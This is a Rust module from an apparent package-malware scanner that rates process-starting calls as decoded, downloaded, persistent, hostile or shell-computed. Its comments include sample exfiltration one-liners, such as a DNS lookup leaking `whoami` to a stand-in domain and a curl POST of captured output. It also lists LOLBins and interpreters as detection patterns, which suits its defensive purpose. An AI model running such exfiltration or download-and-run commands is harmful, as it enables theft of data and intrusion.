//! Processes started: hidden or downloaded commands, hostile command
//! lines, persistence by scheduled task, computed shell commands.

use super::lists::{PERSISTENCE_TASK, PROCESS, RUN_KEYS};
use super::{Out, all_args_lower, first_arg};
use crate::facts::{Call, Facts};
use crate::flow::{self, Labels, matches, names};
use crate::report::{Capabilities, Severity};
use crate::timing::When;

pub(super) fn processes(out: &mut Out<'_>, facts: &Facts<'_>, c: &Call, labels: Labels, caps: &mut Capabilities) {
    if !matches(&c.name, names!(PROCESS)) {
        return;
    }
    let name = c.name.as_str();
    let cmd = all_args_lower(c);
    caps.processes.push(first_arg(c).chars().take(200).collect());
    let shell = c.args.iter().any(|a| a.keyword.as_deref() == Some("shell") && a.text.trim() != "False")
        || name == "os.system"
        || name.starts_with("os.popen");
    if labels.has(Labels::DECODED) || labels.has(Labels::FETCHED) {
        // Hidden (decoded) commands are the package's own act whenever they
        // run. A command built from what was downloaded is one too while the
        // package loads or installs; a tool its user runs (a Node.js
        // installer running the npm version its index names) does it on
        // request: reviewed, not blocked outright.
        // A program named in the code (`["docker", "login", "-p",
        // password]`) given decoded arguments (a registry's base64 login
        // token) shows what it runs; only its arguments were decoded: on
        // request, for a reviewer. Interpreters and shells run their
        // arguments as code.
        //
        // Such a program given only what was downloaded (`["curl", url,
        // "-o", f]` with the URL of a release its index lists, `["docker",
        // "login", "-p", token]` with a token a registry handed out) on
        // request is how tools fetch their parts: medium. What it is given
        // is data, not the program; a launcher (`open`, `start`) or a
        // package manager runs what it is given, so it counts as running
        // what was downloaded.
        let program = if shell { None } else { argv_program(out, facts, c) };
        let named = program.as_deref().filter(|p| !is_interpreter(p) && !is_launcher(p));
        let asked = (!labels.has(Labels::DECODED) || named.is_some())
            && matches!(out.timing(facts).at(facts, c.line), When::Call(..) | When::Program);
        // Decoded by the file from nothing it carries (a registry's base64
        // login token, decoded into `docker login`'s user and password), the
        // arguments of a named program are data in transport encoding: like
        // downloaded data, medium. A file that decodes a string written in
        // it hides something of its own: high.
        let data_only = named.is_some() && (!labels.has(Labels::DECODED) || !out.decodes_a_literal(facts));
        let severity = match (asked, data_only) {
            (false, _) => Severity::Critical,
            (true, false) => Severity::High,
            (true, true) => Severity::Medium,
        };
        out.push(
            "process-decoded",
            severity,
            "process",
            c,
            match named {
                Some(p) => format!("starts `{p}` with arguments decoded or downloaded first"),
                None => "starts a process whose command is decoded or downloaded".into(),
            },
        );
    } else if installs_from_address(c, labels) {
        // pip fetches the archive and runs its build code: download and run
        // in one act, judged like one (on request high, unasked critical).
        super::execution::push_dropper(
            out,
            facts,
            "download-then-run",
            c,
            "installs a package from an address written in the code: pip downloads it and runs its build code",
            vec![format!("downloads and runs: `{}` at line {} runs `pip install` of an address", c.name, c.line)],
        );
    } else if PERSISTENCE_TASK.iter().any(|n| cmd.contains(n)) && (cmd.contains("/create") || cmd.contains("register"))
    {
        out.push(
            "persistence-task",
            Severity::High,
            "persistence",
            c,
            "creates a scheduled task so something runs again later".into(),
        );
    } else if (labels.has(Labels::HOSTILE) || flow::is_hostile_command(&cmd))
        || RUN_KEYS.iter().any(|k| cmd.contains(k)) && cmd.contains("reg")
    {
        // While the package installs or the module loads, before anyone
        // asked for anything (a miner fetched and started from a
        // compromised library's `__init__`), such a command is the package
        // acting on its own; in a function its user calls, a tool's command.
        let unasked = matches!(out.timing(facts).at(facts, c.line), When::Install | When::Import);
        out.push(
            "process-hostile",
            if unasked { Severity::Critical } else { Severity::High },
            "process",
            c,
            "starts a command of the kind malware uses (encoded, download-and-run, LOLBin, shell or persistence)"
                .into(),
        );
    } else if shell && c.args.first().is_none_or(|a| a.literal.is_none()) {
        let (severity, when) =
            if out.install_time { (Severity::High, " while the package installs") } else { (Severity::Medium, "") };
        out.push("process-shell", severity, "process", c, format!("runs a computed command through the shell{when}"));
    } else {
        out.push("process", Severity::Info, "process", c, format!("starts a process ({name})"));
    }
}

/// `pip install` of an archive or repository at an address the code writes
/// (`[sys.executable, "-m", "pip", "install", URL]`, `pip install
/// git+https://...`): not a package name an index resolves. Options that
/// name an index or a folder of links (`-i`, `--index-url`, `-f`) make the
/// address an index's, so they are left alone (a project pointing pip at
/// PyTorch's wheel index), unless that index is one no project publishes
/// on: plain HTTP, a raw IP address, or TLS checks turned off with
/// `--trusted-host` (a second package pulled from the author's own server
/// while the first installs).
fn installs_from_address(c: &Call, labels: Labels) -> bool {
    let words: Vec<&str> = c
        .args
        .iter()
        .filter(|a| a.keyword.is_none())
        .flat_map(|a| a.literal.iter().chain(&a.strings))
        .flat_map(|s| s.split_whitespace())
        .collect();
    let Some(pip) = words.iter().position(|w| {
        let w = w.trim_matches(|ch| ch == '"' || ch == '\'');
        matches!(w.rsplit(['/', '\\']).next(), Some("pip" | "pip3" | "pip.exe" | "pip3.exe"))
    }) else {
        return false;
    };
    let Some(install) = words[pip..].iter().position(|w| *w == "install") else { return false };
    let rest = &words[pip + install + 1..];
    let index = ["-i", "--index-url", "--extra-index-url", "-f", "--find-links"];
    if words.iter().any(|w| index.iter().any(|o| w.strip_prefix(o).is_some_and(|r| r.is_empty() || r.starts_with('='))))
    {
        return words.iter().any(|w| {
            let w = w.trim_matches(|ch| ch == '"' || ch == '\'');
            let local = ["http://localhost", "http://127.", "http://[::1]"].iter().any(|l| w.contains(l));
            w == "--trusted-host"
                || w.starts_with("--trusted-host=")
                || w.contains("http://") && !local
                || crate::hosts::has_raw_ip_url(w)
        });
    }
    let url = |w: &&&str| {
        let w = w.trim_matches(|ch| ch == '"' || ch == '\'');
        w.starts_with("git+") || w.starts_with("http://") || w.starts_with("https://")
    };
    rest.iter().any(|w| url(&w)) || labels.has(Labels::ADDRESS)
}

/// A process that is an HTTP client (`["curl", url]`, `"wget -q " + url`,
/// PowerShell's `Invoke-WebRequest`), or a shell command line that runs one
/// (`t=$(curl ...); curl -X POST -d "$t" https://...`): what it is given
/// goes out.
pub(super) fn http_tool(c: &Call) -> bool {
    runs_tool(c, flow::HTTP_TOOLS, flow::HTTP_TOOLS)
}

/// A process that looks a name up in the DNS (`nslookup`, `dig`,
/// `Resolve-DnsName`; `ping` and `host` as the command itself): the name
/// it is given reaches the server of the domain it ends in, with whatever
/// the shell substituted into it (`nslookup $(whoami).x.example`).
pub(super) fn dns_tool(c: &Call) -> bool {
    const ANYWHERE: &[&str] = &["nslookup", "dig", "resolve-dnsname"];
    runs_tool(c, &["nslookup", "dig", "resolve-dnsname", "ping", "host"], ANYWHERE)
}

/// A process whose command is one of `first` (as its first word), or a
/// shell command line running one of `anywhere`.
fn runs_tool(c: &Call, first_words: &[&str], anywhere: &[&str]) -> bool {
    let named = |w: &str, list: &[&str]| {
        let w = w.strip_suffix(".exe").or_else(|| w.strip_suffix(".EXE")).unwrap_or(w);
        list.iter().any(|t| w.eq_ignore_ascii_case(t))
    };
    let is_tool = |w: &str| named(w, anywhere);
    matches(&c.name, names!(PROCESS))
        && c.args.first().is_some_and(|a| {
            let first = a.literal.as_deref().or(a.strings.first().map(String::as_str)).unwrap_or("");
            if named(first.split_whitespace().next().unwrap_or(""), first_words) {
                return true;
            }
            // A command line for a shell: any command of it, after the
            // shell's separators and substitutions.
            let line = a.literal.clone().unwrap_or_else(|| a.strings.join(" "));
            line.split(|ch: char| ch.is_whitespace() || ";|&()`$'\"=".contains(ch)).any(is_tool)
        })
}

/// The program an argument list names first, written as a string
/// (`["docker", "login", ...]`), in the call or in the variable it is given
/// (the list's assignment, read from its line on).
fn argv_program(out: &Out<'_>, facts: &Facts<'_>, c: &Call) -> Option<String> {
    let a = c.args.iter().find(|a| a.keyword.is_none() || a.keyword.as_deref() == Some("args"))?;
    if let Some(p) = list_head(&a.text) {
        return Some(p);
    }
    let [name] = a.names.as_slice() else { return None };
    if a.text.trim() != name {
        return None;
    }
    let line = out.assigned_before(facts, name, c.line)?;
    let source = out.source_from(line, 400);
    let (_, value) = source.split_once('=')?;
    list_head(value)
}

/// The first element of a list or tuple display when it is a plain string
/// literal: `["docker", x]` -> `docker`.
fn list_head(text: &str) -> Option<String> {
    let rest = text.trim_start().strip_prefix(['[', '('])?.trim_start();
    let quote = rest.chars().next().filter(|q| *q == '"' || *q == '\'')?;
    let body = &rest[1..];
    let end = body.find(quote)?;
    let head = &body[..end];
    (!head.is_empty() && !head.contains(['\\', '{', '\n'])).then(|| head.to_owned())
}

/// What a process call runs, of what its arguments carry: its command.
/// Where its output goes, the folder it starts in and its environment are
/// not (a sandbox runner's decoded stdin file, a launcher's ranks); what it
/// reads on stdin is code only for an interpreter (`run([sys.executable],
/// input=decoded)`). `per_arg` holds each argument's labels.
pub(super) fn command_labels(c: &Call, labels: Labels, per_arg: &[Labels]) -> Labels {
    if labels.is_empty() || !matches(&c.name, names!(PROCESS)) {
        return labels;
    }
    let interpreter = runs_an_interpreter(c);
    c.args.iter().zip(per_arg).fold(Labels::NONE, |l, (a, &al)| match a.keyword.as_deref() {
        Some("stdout" | "stderr" | "cwd" | "env" | "timeout" | "encoding" | "errors" | "creationflags") => l,
        Some("stdin" | "input") if !interpreter => l,
        _ => l | al,
    })
}

/// Whether a process call's command names an interpreter or a shell,
/// which runs what it reads on stdin: written in the call or in the list it
/// is given (`[sys.executable]`, `["powershell", "-"]`).
fn runs_an_interpreter(c: &Call) -> bool {
    let Some(command) = c.args.iter().find(|a| a.keyword.is_none() || a.keyword.as_deref() == Some("args")) else {
        return false;
    };
    command.names.iter().any(|n| n == "sys.executable")
        || command.literal.iter().chain(&command.strings).any(|s| is_interpreter(s))
}

/// Whether a command line's program runs what it is given: a launcher
/// opens a file with the program the system associates with it (an
/// installer, a script, a program file runs); `nohup` or `sudo` starts the
/// next word as a program; a package manager installs what it is given,
/// and that runs its own install code (`npm install -g npm@<version an
/// index named>` installs whatever the index names, an address included).
fn is_launcher(command: &str) -> bool {
    matches!(
        program_base(command).as_str(),
        "open"
            | "xdg-open"
            | "gio"
            | "start"
            | "explorer"
            | "launchctl"
            | "nohup"
            | "setsid"
            | "env"
            | "sudo"
            | "pip"
            | "pip3"
            | "uv"
            | "conda"
            | "npm"
            | "npx"
            | "yarn"
            | "pnpm"
            | "gem"
            | "cargo"
            | "go"
            | "apt"
            | "apt-get"
            | "brew"
            | "choco"
            | "winget"
    )
}

/// A command line's program: its first word, any folder and `.exe` left
/// out, in lower case.
fn program_base(command: &str) -> String {
    let first = command.split_whitespace().next().unwrap_or("");
    let base = first.rsplit(['/', '\\']).next().unwrap_or(first).to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_owned).unwrap_or(base)
}

/// Whether a command line's program (its first word, any folder and `.exe`
/// left out) is an interpreter or a shell, which runs its arguments or its
/// input as code.
fn is_interpreter(command: &str) -> bool {
    const INTERPRETERS: &[&str] = &[
        "python",
        "sh",
        "bash",
        "zsh",
        "dash",
        "cmd",
        "powershell",
        "pwsh",
        "node",
        "perl",
        "ruby",
        "wscript",
        "cscript",
        "mshta",
        "rundll32",
        "regsvr32",
        "msiexec",
        "osascript",
    ];
    let base = program_base(command);
    INTERPRETERS.contains(&base.as_str()) || base.starts_with("python")
}
